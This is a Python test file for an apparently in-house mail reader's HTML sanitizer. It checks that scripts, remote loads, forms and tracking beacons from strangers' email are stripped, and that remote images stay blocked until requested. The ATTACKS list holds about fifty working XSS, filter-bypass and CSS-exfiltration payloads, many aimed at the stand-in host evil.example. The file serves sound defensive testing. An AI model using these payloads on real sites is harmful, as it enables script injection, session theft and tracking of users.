"""HTML of strangers on our page: nothing in it runs, leaves, submits, restyles or phones home until asked."""

import re

from services.helpdesk.mail.reading import parse, shown
from tests.mail.reading.fuzz import unsafe

EVIL = "https://evil.example"
ATTACKS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1) src='https://evil.example/1'>",
    "<img/src='https://evil.example/1'/onload=alert(1)>",
    "<img src='java\nscript:alert(1)'>",
    "<img src='&#106;avascript:alert(1)'>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='blocked:javascript:alert(1)'>",
    "<img srcset='https://evil.example/1 2x' sizes=1>",
    "<img lowsrc='https://evil.example/1' dynsrc='https://evil.example/2'>",
    "<picture><source srcset='https://evil.example/1'></picture>",
    "<a href='javascript:alert(1)'>a</a>",
    "<a href=' &#14; javascript:alert(1)'>a</a>",
    "<a href='jav&#x09;ascript:alert(1)'>a</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>a</a>",
    "<a href='vbscript:msgbox(1)'>a</a>",
    "<a href='//evil.example'>a</a>",
    "<a href='blob:https://x'>a</a><a href='file:///etc/passwd'>b</a>",
    "<a href='https://ok.example' onclick=alert(1) target=_top ping='https://evil.example/'>a</a>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style>@import 'https://evil.example/x.css'</style></svg>",
    "<svg><image href='https://evil.example/1'/><use href='https://evil.example/#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form action='https://evil.example'><input name=p><button formaction='javascript:alert(1)'>x</button></form>",
    "<base href='https://evil.example/'><a href='relative'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body{background:url(https://evil.example/x)} @import 'https://evil.example/y';</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
    "<p style='color:red;background-image:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<p style='list-style-image:url(https://evil.example/x);cursor:url(https://evil.example/y),auto'>x</p>",
    "<p style='width:expression(alert(1));behavior:url(#x);-moz-binding:url(https://evil.example/x)'>x</p>",
    "<div style='position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999'>x</div>",
    "<iframe src='https://evil.example' srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'>",
    "<video poster='https://evil.example/1' src='https://evil.example/2' autoplay></video><audio src='https://evil.example/3'></audio>",
    "<table background='https://evil.example/1'><tr><td background='https://evil.example/2'>x</td></tr></table>",
    "<body background='https://evil.example/1' onload=alert(1)>x</body>",
    "<input type=image src='https://evil.example/1' onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<template><script>alert(1)</script></template><xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<p id=main name=body class='button primary' data-x=1 hx-get='https://evil.example' x-data='{}' slot=x>x</p>",
    "<marquee onstart=alert(1)>x</marquee><dialog open>x</dialog><keygen><frameset><frame src='https://evil.example'>",
)


def read(markup: str):
    return parse(f"From: a@b.example\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{markup}".encode())


def test_no_attack_survives() -> None:
    for attack in ATTACKS:
        html = read(f"<p>before</p>{attack}<p>after</p>").html
        page, _ = shown(html, {})
        assert "before" in page, attack
        assert not unsafe(html), attack
        assert not unsafe(page), attack
        assert "evil.example" not in re.sub(r'data-blocked|href="https://ok[^"]*"', "", page), (attack, page)
        assert not re.search(r"\b(id|name|class|hx-get|slot|target)=", page), (attack, page)


def test_images_of_others_wait_until_they_are_asked_for() -> None:
    mail = read(
        "<img src='https://a.example/1.png?x=1&amp;y=2' alt=one><img src='//b.example/2.png'><img src='cid:i@1'><img src='cid:gone'>"
    )
    assert mail.blocked_images == 2
    page, blocked = shown(mail.html, {"i@1": "/mail/files/1"})
    assert blocked == ["https://a.example/1.png?x=1&y=2", "https://b.example/2.png"]
    assert "a.example" not in page
    assert 'src="/mail/files/1"' in page
    assert page.count("src=") == 1

    page, blocked = shown(mail.html, {"i@1": "/mail/files/1"}, remote=True)
    assert blocked == []
    assert 'src="https://a.example/1.png?x=1&amp;y=2"' in page
    assert page.count('referrerpolicy="no-referrer"') == 2
